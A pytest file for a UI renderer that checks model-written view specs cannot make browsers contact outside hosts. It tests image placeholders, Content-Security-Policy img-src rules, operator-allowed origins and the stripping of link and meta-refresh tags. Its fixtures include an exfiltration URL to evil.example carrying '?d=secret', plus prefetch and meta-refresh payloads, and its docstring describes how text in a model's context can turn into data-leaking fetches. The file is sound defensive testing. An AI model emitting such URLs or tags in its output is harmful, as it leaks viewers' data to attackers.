"""No network from views: `img-src https:` and any-https image URLs let text in the model's
context make every viewer's browser fetch `https://evil/?d=...`. Images now come only from
data: URLs or origins the operator allows (none by default), any other is drawn as a local
placeholder, and nothing the model writes becomes a <link> or a <meta> refresh."""

from __future__ import annotations

import re
from typing import Any

import pytest

from tests.csp import directives
from ui4a import render_body, render_document
from ui4a.images import IMAGE_ORIGINS_ENV, image_allowed, image_origins
from ui4a.policy import Surface, policy_for

EVIL = "https://evil.example/?d=secret"
PIXEL = "data:image/png;base64,iVBORw0KGgo="
TRAPS = (
    '<link rel="prefetch" href="https://evil.example/p"><link rel=dns-prefetch href=//evil.example>'
    '<meta http-equiv="refresh" content="0;url=https://evil.example/r">'
)


def gallery(src: str) -> dict[str, Any]:
    return {"root": {"t": "page", "c": [{"t": "image", "src": src, "alt": "Chart"}]}}


def test_a_remote_image_renders_a_local_placeholder() -> None:
    html = render_body(gallery(EVIL))
    assert "evil.example" not in html and "<img" not in html
    assert 'class="u4-image u4-image-missing"' in html and 'aria-label="Chart"' in html
    # Drawn where the image would be: a local drawing and the image's description.
    assert (
        "<svg" in html and '<span class="u4-image-caption" aria-hidden="true">Chart</span>' in html
    )
    assert f'src="{PIXEL}"' in render_body(gallery(PIXEL))


@pytest.mark.parametrize("surface", [Surface.VIEW_META, Surface.VIEW_HEADER, Surface.STUDIO_PAGE])
def test_no_view_policy_allows_remote_images_by_default(surface: Surface) -> None:
    rules = directives(policy_for(surface))
    assert "https:" not in rules["img-src"] and "data:" in rules["img-src"]
    if surface is not Surface.STUDIO_PAGE:
        # default-src 'none' governs prefetch, fonts, media, frames and objects alike.
        assert rules["default-src"] == ["'none'"] and rules["connect-src"] == ["'none'"]


def test_an_operator_may_allow_image_origins(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(
        IMAGE_ORIGINS_ENV, "https://cdn.example.com, https://img.example:8443/ bad;origin http://x"
    )
    assert image_origins() == ("https://cdn.example.com", "https://img.example:8443")
    rules = directives(policy_for(Surface.VIEW_META))
    assert rules["img-src"] == ["data:", "https://cdn.example.com", "https://img.example:8443"]
    assert directives(policy_for(Surface.EXPORTED_FILE))["img-src"] == ["data:"]
    assert image_allowed("https://cdn.example.com/a.png")
    assert 'src="https://cdn.example.com/a.png"' in render_body(
        gallery("https://cdn.example.com/a.png")
    )
    for src in (EVIL, "https://cdn.example.com@evil.example/a.png", "https://cdn.example.comx/a"):
        assert not image_allowed(src), src
        assert "<img" not in render_body(gallery(src))


def test_no_link_or_meta_refresh_reaches_a_view_from_any_text() -> None:
    spec = {
        "title": TRAPS,
        "root": {
            "t": "page",
            "title": TRAPS,
            "c": [
                {"t": "markdown", "md": TRAPS + "\n\n" + TRAPS},
                {"t": "text", "text": TRAPS},
                {"t": "image", "src": "https://evil.example/i.png", "alt": TRAPS},
            ],
        },
        "state": {"k": TRAPS},
    }
    doc = render_document(spec)
    assert not re.search(r"<link\b", doc, re.I)
    metas = re.findall(r"<meta\b[^>]*>", doc, re.I)
    assert len(metas) == 4 and not [m for m in metas if "refresh" in m.lower()]
